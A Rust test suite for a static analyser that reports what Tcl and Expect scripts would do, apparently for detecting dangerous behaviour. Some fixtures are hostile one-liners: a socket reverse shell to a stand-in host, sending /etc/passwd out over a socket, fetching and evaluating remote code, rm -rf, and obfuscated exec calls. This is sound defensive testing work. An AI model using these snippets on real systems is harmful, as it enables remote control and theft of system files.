//! Tcl and Expect.

use super::{check_in, effects_in};
use aegish_code_parsers::language::Language;
use aegish_test_support::clock::cpu_time;
use std::time::Duration;

fn check(table: &[(&str, &[&str])]) {
    check_in(Language::Tcl, table);
}

#[test]
fn commands_and_words() {
    check(&[
        ("exec ls -l", &["argv ls|-l"]),
        ("puts [exec sh -c {cat /etc/hosts}]", &["argv sh|-c|cat /etc/hosts"]),
        ("exec ls | wc -l", &["argv ls", "argv wc|-l"]),
        ("set c id; exec $c", &["argv id"]),
        ("set c i; append c d; exec $c", &["argv id"]),
        ("exec [string reverse di]", &["argv id"]),
        ("exec sh -c [binary decode base64 aWQ=]", &["argv sh|-c|id"]),
        ("eval {exec id}", &["argv id"]),
        ("if {1} { exec id }", &["argv id"]),
        ("set f [open /etc/hosts]; puts [read $f]", &["read /etc/hosts"]),
        // `puts` adds the end of the line.
        ("set f [open /tmp/x w]; puts $f DATA", &["write /tmp/x <- DATA\n"]),
        ("open \"|ls -l\"", &["argv ls|-l"]),
        ("load ./x.so y", &["load ./x.so"]),
        ("source /srv/x.tcl", &["script tcl /srv/x.tcl"]),
        ("file delete -force /srv/x", &["tree /srv/x"]),
        (
            "set s [socket h.example 99];while 1 { puts -nonewline $s \"> \";flush $s;gets $s c;set e \"exec $c\";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }; close $s;",
            &["connect h.example 99", "received"],
        ),
        (
            "set s [socket $::env(PEER) $::env(PORT)]; exec sh <@$s >@$s",
            &["connect peer.example 7001", "attach", "argv sh"],
        ),
        ("puts {exec rm}", &["print exec rm\n"]),
        ("# exec rm", &[]),
        ("puts hello", &["print hello\n"]),
        ("set x [expr {1 + 2}]", &[]),
        ("puts [read [open [join {/srv data} /]]]", &["read /srv/data"]),
        ("puts [read [open [glob /srv/dat?]]]", &["list /srv/dat?", "read /srv/dat?"]),
        ("puts [subst {[exec id]}]", &["argv id"]),
        // A change of directory is only told before a program runs there.
        ("cd /srv; open data", &["read /srv/data"]),
        ("cd /srv; exec ls", &["chdir /srv", "argv ls"]),
    ]);
}

#[test]
fn expect() {
    check(&[
        ("spawn /bin/sh;interact", &["argv /bin/sh"]),
        ("spawn sh\nsend \"id\\r\"", &["argv sh", "shell id"]),
        (
            "spawn ssh h.example\nexpect \"password\"\nsend \"x\\r\"\ninteract",
            &["argv ssh|h.example"],
        ),
        (
            "spawn sh; expect {\n \"$ \" { send \"id\\r\" }\n timeout { exit 1 }\n}",
            &["argv sh", "shell id"],
        ),
        (
            "spawn bash; send \"rm -rf \"; send \"/srv\\r\"",
            &["argv bash", "shell rm -rf", "shell rm -rf /srv"],
        ),
        (
            "spawn ftp h.example; expect -re {[Nn]ame} {send \"a\\r\"; exec id}",
            &["argv ftp|h.example", "argv id"],
        ),
        (
            "set timeout 10\nspawn ssh a@h.example\nexpect {\n  \"yes/no\" { send \"yes\\r\"; exp_continue }\n  \"assword:\" { send \"$env(PW)\\r\" }\n}\nexpect eof\n",
            &["argv ssh|a@h.example"],
        ),
        ("spawn sudo -i; send \"id\\r\"", &["argv sudo|-i", "shell id"]),
        ("spawn sudo apt update; expect pass; send \"x\\r\"", &["argv sudo|apt|update"]),
        ("exp_spawn -noecho sh; exp_send -- \"id\\n\"", &["argv sh", "shell id"]),
        (
            "spawn sh; set a $spawn_id; spawn ls; send -i $a \"id\\r\"",
            &["argv sh", "argv ls", "shell id"],
        ),
        ("trap {exec id} SIGINT", &["argv id"]),
        ("system {ls; id}", &["shell ls; id"]),
        ("interact {\n \"x\" {exec id}\n}", &["argv id"]),
        ("proc expect {a} {exec {*}$a}; expect {ls -l}", &["argv ls|-l"]),
    ]);
}

#[test]
fn branches_and_loops() {
    check(&[
        ("if {$argc} {set c ls} else {set c id}; exec $c", &["argv ls", "argv id"]),
        ("set c ls; if {$argc > 1} {set c id}; exec $c", &["argv id", "argv ls"]),
        ("if {0} {exec id}", &[]),
        (
            "if 0 then {exec id} elseif {[llength $argv]} {exec ls} else {exec pwd}",
            &["argv ls", "argv pwd"],
        ),
        ("exec [if {$argc} {set x ls} else {set x id}]", &["argv ls", "argv id"]),
        (
            "switch [gets stdin] {a {set c ls} b - c {set c id} default {set c pwd}}; exec $c",
            &["argv ls", "argv id", "argv pwd"],
        ),
        ("switch -exact -- b {a {exec ls} b {exec id} default {exec pwd}}", &["argv id"]),
        ("switch -glob -- xyz {a* {exec ls} x* {exec id}}", &["argv id"]),
        ("switch b a {exec ls} b {exec id}", &["argv id"]),
        ("foreach c {ls id} {exec $c}", &["argv ls", "argv id"]),
        ("foreach {a b} {ls -l id -u} {exec $a $b}", &["argv ls|-l", "argv id|-u"]),
        ("foreach a {ls id} b {-l -u} {exec $a $b}", &["argv ls|-l", "argv id|-u"]),
        ("for {set i 0} {$i < 2} {incr i} {exec echo $i}", &["argv echo|0", "argv echo|1"]),
        ("set i 0; while {$i < 2} {exec echo $i; incr i}", &["argv echo|0", "argv echo|1"]),
        ("while 1 {if {$argc} break; exec ls}; exec id", &["argv ls", "argv id"]),
        ("foreach i {a b} {if {$i eq {a}} continue; exec $i}", &["argv b"]),
        ("exec {*}[lmap x {d i} {string cat $x}]", &["argv d|i"]),
        ("set s {}; foreach c {i d} {append s $c}; exec $s", &["argv id"]),
        ("dict for {k v} {a ls b id} {exec $v}", &["argv ls", "argv id"]),
        ("if {[catch {exec ls} r]} {exec id}", &["argv ls", "argv id"]),
        (
            "try {exec ls} on error {m o} {exec id} finally {exec pwd}",
            &["argv ls", "argv id", "argv pwd"],
        ),
        ("try {set c id} on ok {r} {exec $r}", &["argv id"]),
        ("catch {exec ls} r; catch {error x} r; exec id", &["argv ls", "argv id"]),
        ("set c ls; catch {set c id; error x}; exec $c", &["argv ls", "argv id"]),
        ("error bad; exec id", &[]),
        ("exit; exec id", &[]),
    ]);
}

#[test]
fn procedures() {
    check(&[
        ("proc f {c} {exec $c}; f id", &["argv id"]),
        ("proc f {c {o -l}} {exec $c $o}; f ls; f id -u", &["argv ls|-l", "argv id|-u"]),
        ("proc f {args} {exec {*}$args}; f ls -l", &["argv ls|-l"]),
        ("proc f {} {return id}; exec [f]", &["argv id"]),
        ("proc f {} {set x id}; exec [f]", &["argv id"]),
        ("proc f {x} {if {$x} {return ls}; return id}; exec [f $argc]", &["argv ls", "argv id"]),
        (
            "proc f {n} {if {$n == 0} {return {}}; return a[f [expr {$n - 1}]]}; exec [f 3]",
            &["argv aaa"],
        ),
        (
            "proc f {n} {exec echo $n; if {$n > 0} {f [expr {$n-1}]}}; f 1",
            &["argv echo|1", "argv echo|0"],
        ),
        ("set c id; proc f {} {global c; exec $c}; f", &["argv id"]),
        ("set c ls; proc f {} {global c; set c id}; f; exec $c", &["argv id"]),
        ("set c ls; proc f {} {set c id}; f; exec $c", &["argv ls"]),
        ("proc f {n} {upvar $n v; set v id}; set c ls; f c; exec $c", &["argv id"]),
        ("proc f {b} {uplevel 1 $b}; f {exec id}", &["argv id"]),
        ("proc f {} {upvar #0 c v; exec $v}; set c id; f", &["argv id"]),
        ("namespace eval a {variable c id; proc f {} {variable c; exec $c}}; a::f", &["argv id"]),
        (
            "namespace eval a {variable c ls}; namespace eval b {variable c id}; proc a::f {} {variable c; exec $c}; a::f",
            &["argv ls"],
        ),
        ("namespace eval a {proc exec args {puts x}; exec id}", &["print x\n"]),
        ("set ::a::c id; exec $a::c", &["argv id"]),
        ("apply {{c} {exec $c}} id", &["argv id"]),
        ("proc f {} {exec id}", &["argv id"]),
        ("proc f {x} {eval $x}", &[]),
        ("rename exec x; x id", &["argv id"]),
        ("interp alias {} x {} exec ls; x -l", &["argv ls|-l"]),
        (
            "namespace eval e {namespace export run; namespace ensemble create; proc run {c} {exec $c}}; e run id",
            &["argv id"],
        ),
        (
            "namespace eval e {namespace ensemble create -map {run {::exec id}}}; e run -u",
            &["argv id|-u"],
        ),
        ("namespace unknown {exec ls}; foo", &["argv ls|foo"]),
        ("set auto_index(foo) {exec id}; foo", &["argv id"]),
        ("lappend auto_path /srv/lib; package require x", &["script tcl /srv/lib/pkgIndex.tcl"]),
        ("proc unknown args {exec {*}$args}; id -u", &["argv id|-u"]),
        ("set tcl_interactive 1; id -u", &["argv id|-u"]),
        ("id -u", &[]),
        (
            "namespace eval e {proc error {a} {exec {*}$a}}; namespace eval e {error {id -u}}",
            &["argv id|-u"],
        ),
        ("proc if {a b} {exec {*}$a}; if {id} {}", &["hidden"]),
        ("oo::class create C {method run {c} {exec $c}}; set o [C new]; $o run id", &["argv id"]),
        ("oo::class create C {constructor {c} {exec $c}}; C new id", &["argv id"]),
        (
            "proc log::error {m} {puts $m}; proc f {} {error bad}; catch f; log::error x",
            &["print x\n"],
        ),
        ("proc ::tcl::mathfunc::f {} {exec id}; expr {f()}", &["argv id"]),
        ("coroutine c f; proc f {} {exec id}", &["argv id"]),
        (
            "proc go {s a p} {exec sh -c [gets $s]}; socket -server go 99",
            &["listen  99", "received", "argv sh|-c|‹received›"],
        ),
    ]);
}

#[test]
fn code_that_is_a_value() {
    check(&[
        ("eval exec id -u", &["argv id|-u"]),
        ("eval [list exec id]", &["argv id"]),
        ("set c {exec id}; eval $c", &["argv id"]),
        ("set c {exec id}; {*}$c", &["argv id"]),
        ("set c exec; $c id", &["argv id"]),
        ("[string cat ex ec] id", &["argv id"]),
        ("set x exec; set y x; [set $y] id", &["argv id"]),
        ("if {$argc} {set c exec} else {set c puts}; $c id", &["argv id"]),
        ("eval [lindex $argv 0]", &[]),
        ("eval [gets stdin]", &["hidden"]),
        ("[gets stdin] x", &["hidden"]),
        ("eval exec $argv", &["argv first-arg|‹argument›"]),
        ("eval [list exec ls [gets stdin]]", &["argv ls|‹input›"]),
        ("exec ls [gets stdin]", &["argv ls|‹input›"]),
        ("exec ls $env(NOPE)", &["argv ls|‹environment›"]),
        ("exec cat $env(TARGET)", &["argv cat|/srv/data.bin"]),
        ("set b {exec id}; if 1 $b", &["argv id"]),
        ("set b {exec id}; foreach x {1} $b", &["argv id"]),
        ("set v x; foreach $v {id} {exec $x}", &["argv id"]),
        ("set n f; proc $n {} {exec id}; f", &["argv id"]),
        ("proc f {} [gets stdin]; f", &["hidden"]),
        ("set x {[exec id]}; expr $x", &["argv id"]),
        ("expr [gets stdin]", &["hidden"]),
        ("if $argc {exec id}", &["argv id"]),
        ("set i 0; foreach a $argv {set i [expr $i + 1]}", &[]),
        ("subst [gets stdin]", &["hidden"]),
        ("after 10 exec id", &["argv id"]),
        ("namespace eval x [list exec id]", &["argv id"]),
        ("interp create i; i eval {exec id}", &["argv id"]),
        ("set i [interp create]; $i eval {exec id}", &["argv id"]),
        ("trace add variable x write {exec id}; set x 1", &["argv id|x||‹argument›"]),
        ("set a(c) id; exec $a(c)", &["argv id"]),
        ("set k c; set a(c) id; exec $a($k)", &["argv id"]),
        ("array set a {c id}; exec $a(c)", &["argv id"]),
        ("set d [dict create c id]; exec [dict get $d c]", &["argv id"]),
        ("dict set d c id; exec [dict get $d c]", &["argv id"]),
        ("lassign {id -u} a b; exec $a $b", &["argv id|-u"]),
        ("set [gets stdin] id; exec ls", &["argv ls"]),
        ("set c ls; set [gets stdin] id; exec $c", &["argv ls", "argv id"]),
        ("button .b -command {exec id}", &["argv id"]),
        ("file [gets stdin] x", &["hidden"]),
        ("uplevel #0 {exec id}", &["argv id"]),
        ("eval \"exec ls [gets stdin]\"", &["eval tcl exec ls ‹input›"]),
        ("thread::create {exec id}", &["argv id"]),
        ("lsort -command {exec} {a b}", &["argv a|{a|b}", "argv b|{a|b}"]),
    ]);
}

#[test]
fn spelling() {
    check(&[
        ("\\x65xec id", &["argv id"]),
        ("\"exec\" {id}", &["argv id"]),
        ("::exec id", &["argv id"]),
        ("e\\xec id", &[]),
        ("exec \\\n  id \\\n  -u", &["argv id|-u"]),
        ("# a comment \\\nexec id\nexec ls", &["argv ls"]),
        ("set x 1;# exec id", &[]),
        ("puts a #;exec id", &["argv id"]),
        ("exec \\151\\u0064", &["argv id"]),
        ("set x i; exec ${x}d", &["argv id"]),
        ("exec {*}{id -u}", &["argv id|-u"]),
        ("exec [format %c%c 105 100]", &["argv id"]),
        ("exec [string map {X i Y d} XY]", &["argv id"]),
        ("exec [join [split i.d .] {}]", &["argv id"]),
        ("exec [lindex {ls id} end]", &["argv id"]),
        ("exec [lindex {a {b id}} 1 1]", &["argv id"]),
        ("exec [string range xidx 1 end-1]", &["argv id"]),
        ("exec [regsub -all x ixd {}]", &["argv id"]),
        ("exec [binary format H* 6964]", &["argv id"]),
        ("exec [binary format c* {105 100}]", &["argv id"]),
        ("exec [encoding convertfrom utf-8 id]", &["argv id"]),
        ("exec [lreverse {-u id}]", &["argv id -u"]),
        ("exec {*}[lreverse {-u id}]", &["argv id|-u"]),
        ("exec {*}[concat id {-u -n}]", &["argv id|-u|-n"]),
        ("exec [set a i][set b d]", &["argv id"]),
        ("file del -f /srv/x", &["tree /srv/x"]),
        ("fil\\\ne", &[]),
        ("exec [string ra xid 1 2]", &["argv id"]),
        ("exec echo id | sh", &["shell echo id | sh"]),
        ("exec sh < /srv/x", &["argv sh", "script shell /srv/x"]),
        ("set p [open |sh w]; puts $p {rm -rf /srv}", &["argv sh", "shell rm -rf /srv"]),
        ("if {$argc} {exec id} {exec ls}", &["argv id", "argv ls"]),
    ]);
}

#[test]
fn files_environment_and_network() {
    check(&[
        ("set env(X) 1; exec ls", &["setenv X=1", "argv ls"]),
        ("set ::env(PATH) /tmp:$::env(PATH)", &["setenv PATH=/tmp:‹environment›"]),
        ("file copy /etc/passwd /tmp/x", &["copy /etc/passwd -> /tmp/x"]),
        ("file delete -force {*}[glob /srv/*]", &["list /srv/*", "tree /srv/*"]),
        ("cd $env(HOME); file delete x", &["delete /home/ann/x"]),
        (
            "set f [open /srv/a r]; set d [read $f]; close $f; set o [open /srv/b w]; puts -nonewline $o $d",
            &["read /srv/a", "write /srv/b <- ‹file content›"],
        ),
        (
            "set s [socket h.example 80]; puts $s [read [open /etc/passwd]]",
            &["connect h.example 80", "read /etc/passwd", "send h.example:80 <- /etc/passwd"],
        ),
        (
            "set s [socket h.example 80]; fcopy [open /etc/passwd] $s",
            &["connect h.example 80", "read /etc/passwd", "send h.example:80 <- /etc/passwd"],
        ),
        (
            "package require http; eval [http::data [http::geturl http://h.example/x]]",
            &["fetch http://h.example/x", "received"],
        ),
        (
            "set f [open /tmp/x.sh w]; puts $f id; close $f; exec sh /tmp/x.sh",
            &["write /tmp/x.sh <- id\n", "argv sh|/tmp/x.sh"],
        ),
        ("open /srv/x r+", &["read /srv/x", "write /srv/x <- "]),
        ("file rename a /srv/b", &["copy a -> /srv/b", "tree a"]),
        ("foreach f $argv {file delete $f}", &["delete first-arg"]),
        ("source [file join /srv x.tcl]", &["script tcl /srv/x.tcl"]),
        ("source [lindex $argv 0]", &["script tcl first-arg"]),
        ("namespace import fileutil::*; writeFile /tmp/x a", &["write /tmp/x <- a"]),
    ]);
}

#[test]
fn mistakes_are_not_harmless() {
    check(&[
        ("exec id\nputs {a", &["argv id", "hidden"]),
        ("exec id\nputs \"a", &["argv id", "hidden"]),
        ("exec id; puts [a", &["argv id", "hidden"]),
        ("exec id; puts {a}b", &["argv id", "hidden"]),
        ("if {1 +} {exec id}", &["argv id", "hidden"]),
        ("proc f {} {exec id; puts [}; exec ls", &["argv ls", "argv id", "hidden"]),
        ("exec AEGISH_UNKNOWN", &["hidden"]),
        ("exec ls AEGISH_UNKNOWN", &["argv ls|‹part of the command›"]),
    ]);
}

#[test]
fn harmless_programs() {
    for code in [
        "set name World\nputs \"Hello, $name!\"",
        "for {set i 0} {$i < 10} {incr i} {\n    puts \"i is $i\"\n}",
        "proc fact {n} {\n  if {$n <= 1} { return 1 }\n  return [expr {$n * [fact [expr {$n - 1}]]}]\n}\nputs [fact 10]",
        "proc fib n {expr {$n < 2 ? $n : [fib [expr {$n-1}]] + [fib [expr {$n-2}]]}}\nputs [fib 15]",
        "set l [list 3 1 2]\nputs [lsort -integer $l]\nputs [llength $l]",
        "foreach {k v} {a 1 b 2} {puts \"$k=$v\"}",
        "array set ages {ann 30 bob 25}\nforeach n [lsort [array names ages]] {puts \"$n is $ages($n)\"}",
        "set d [dict create a 1 b 2]\ndict for {k v} $d {puts \"$k: $v\"}",
        "while {[gets stdin line] >= 0} {\n    puts [string toupper $line]\n}",
        "switch -- $argc {0 {puts none} 1 {puts one} default {puts many}}",
        "if {[catch {expr {1/0}} msg]} {puts \"caught: $msg\"}",
        "try {\n  error oops\n} on error {msg opts} {\n  puts stderr $msg\n} finally {\n  puts done\n}",
        "puts [string length \"a b c\"]\nputs [string range abcdef 1 3]\nputs [string map {a b} banana]",
        "regexp {(\\d+)-(\\d+)} 10-20 all a b\nputs [expr {$a + $b}]",
        "puts [regsub -all {\\s+} \"a  b   c\" \" \"]",
        "namespace eval counter {\n  variable n 0\n  proc next {} {variable n; incr n; return $n}\n  namespace export next\n}\nputs [counter::next]",
        "oo::class create Stack {\n variable items\n constructor {} {set items {}}\n method push {x} {lappend items $x}\n method pop {} {set r [lindex $items end]; set items [lrange $items 0 end-1]; return $r}\n}\nset s [Stack new]\n$s push 1\n$s push 2\nputs [$s pop]",
        "puts [clock format [clock seconds] -format %Y-%m-%d]",
        "package require Tcl 8.6\npackage require json\nset data [json::json2dict {{\"a\": 1}}]\nputs [dict get $data a]",
        "set total 0\nforeach x {1 2 3} {set total [expr {$total + $x}]}\nputs $total",
        "puts [join [lmap x {1 2 3} {expr {$x * $x}}] \", \"]",
        "proc greet {{name you} args} {puts \"hi $name [join $args]\"}\ngreet\ngreet ann b c",
        "set x [expr {rand() * 10}]\nputs [format \"%.2f\" $x]",
        "puts \"tcl [info patchlevel] on $tcl_platform(os)\"",
        "if {![info exists env(HOME)]} {puts none} else {puts $env(HOME)}",
        "upvar 0 x y\nset y 5\nputs $x",
        "proc swap {a b} {upvar 1 $a x $b y; set t $x; set x $y; set y $t}\nset p 1; set q 2\nswap p q\nputs $p$q",
        "set s \"a,b;c\"\nforeach part [split $s \",;\"] {puts [string trim $part]}",
        "proc max {args} {set m [lindex $args 0]; foreach a $args {if {$a > $m} {set m $a}}; return $m}\nputs [max 3 9 2]",
        "set i 5\nwhile {$i} {puts $i; incr i -1}",
        "proc map {f l} {set r {}; foreach x $l {lappend r [apply $f $x]}; return $r}\nputs [map {x {expr {$x + 1}}} {1 2 3}]",
        "set text {line one\nline two}\nforeach line [split $text \\n] {puts \"> $line\"}",
        "after 100 {set done 1}\nvwait done\nputs finished",
        "puts [expr {max(1, 2) + abs(-3) ** 2}]",
        "puts [expr {\"abc\" eq \"abc\" && 3 in {1 2 3} ? \"yes\" : \"no\"}]",
        "set m {{1 2} {3 4}}\nputs [lindex $m 1 0]\nlset m 0 0 9\nputs $m",
        "proc p {} {return -code error \"bad input\"}\nif {[catch p err]} {puts $err}",
        "coroutine gen apply {{} {yield; for {set i 0} {$i < 3} {incr i} {yield $i}}}\nputs [gen]",
        "puts [lsearch -exact {a b c} b]\nputs [lrange {a b c d} 1 2]\nputs [linsert {a c} 1 b]",
        "set fmt {%-10s|%5d}\nputs [format $fmt abc 42]",
        "proc usage {} {puts stderr \"usage: x file\"; exit 1}\nif {$argc != 1} usage",
        "# comment { with brace }\nset a 1 ;# trailing\nputs $a",
        "set b [binary format a4 ab]\nbinary scan $b a4 c\nputs $c",
        "puts [encoding system]\nputs [string is integer 12]",
        "puts [tcl::mathop::+ 1 2 3]",
        "proc log {level msg} {if {$level in {info warn}} {puts \"\\[$level\\] $msg\"}}\nlog info started",
        "set keys [dict keys {a 1 b 2}]\nputs $keys\nputs [dict exists {a 1} a]",
        "package require Tk\nbutton .b -text Hi -command {puts clicked}\npack .b\nbind . <Escape> {destroy .}\nwm title . Demo",
        "trace add variable x write {apply {{n args} {puts \"changed $n\"}}}\nset x 1",
        "puts [time {for {set i 0} {$i < 100} {incr i} {}} 10]",
    ] {
        let got = effects_in(Language::Tcl, code);
        let wrong: Vec<_> = got.iter().filter(|effect| !effect.starts_with("print ")).collect();
        assert!(wrong.is_empty(), "{code}\n    got {wrong:?}");
    }
}

#[test]
fn bounds() {
    let deep = [
        "[".repeat(10_000) + &"]".repeat(10_000),
        "{".repeat(10_000) + &"}".repeat(10_000),
        "if 1 {".repeat(10_000) + &"}".repeat(10_000),
        "expr {".to_owned() + &"(".repeat(10_000) + "1" + &")".repeat(10_000) + "}",
        "expr {".to_owned() + &"-".repeat(10_000) + "1}",
        "expr {".to_owned() + &"! ".repeat(10_001) + "1}",
        "expr {1".to_owned() + &" + 1".repeat(20_000) + "}",
        "expr {1".to_owned() + &" ** 1".repeat(10_000) + "}",
        "expr {".to_owned() + &"1 ? ".repeat(10_000) + "1}",
        "set x \"".to_owned() + &"$a(".repeat(10_000) + &")".repeat(10_000) + "\"",
        "proc f {} {".repeat(10_000) + &"}".repeat(10_000),
        "proc f {x} {f $x; f $x}; f 1".to_owned(),
        "expect {\n x {".repeat(2_000) + &"exp_continue}\n}".repeat(2_000),
        "eval {".repeat(5_000) + &"}".repeat(5_000),
    ];
    for code in deep {
        let start = cpu_time();
        effects_in(Language::Tcl, &code);
        let took = cpu_time() - start;
        let head: String = code.chars().take(40).collect();
        assert!(took < Duration::from_millis(900), "{head}: {took:?}");
    }
    for code in [
        "set x 1\n".repeat(100_000),
        "puts {a b c}; ".repeat(70_000),
        "if {$x} {puts a} else {puts b}\n".repeat(30_000),
        format!("set x {{{}}}", "a ".repeat(500_000)),
        format!("set x \"{}\"", "a\\n".repeat(330_000)),
    ] {
        let start = cpu_time();
        effects_in(Language::Tcl, &code);
        let took = cpu_time() - start;
        let head: String = code.chars().take(40).collect();
        assert!(took < Duration::from_secs(3), "{head}: {took:?}");
    }
}

#[test]
fn tcl_options_of_commands_of_packages_are_no_paths() {
    check(&[
        ("link -sym /etc/hosts /srv/l", &["link /etc/hosts <- /srv/l"]),
        ("load -lazy /srv/x.so", &["load /srv/x.so"]),
        ("fileutil::cat -encoding utf-8 /etc/hosts", &["read /etc/hosts"]),
        ("fileutil::install -m 755 /srv/a /srv/b", &["copy /srv/a -> /srv/b"]),
        ("chown root {/srv/a /srv/b}", &["owner root: /srv/a", "owner root: /srv/b"]),
        (
            "set s [socket h.example 99]; dup $s stdin; dup $s stdout",
            &["connect h.example 99", "attach"],
        ),
        ("loop i 0 3 {exec id}", &["argv id"]),
        ("try_eval {exec id} {exec who}", &["argv id", "argv who"]),
        ("for_file line /srv/x {puts hello}", &["read /srv/x"]),
        ("exp_open -i 3", &[]),
        ("http::get x", &[]),
        ("package require -exact http 2.7", &[]),
    ]);
}
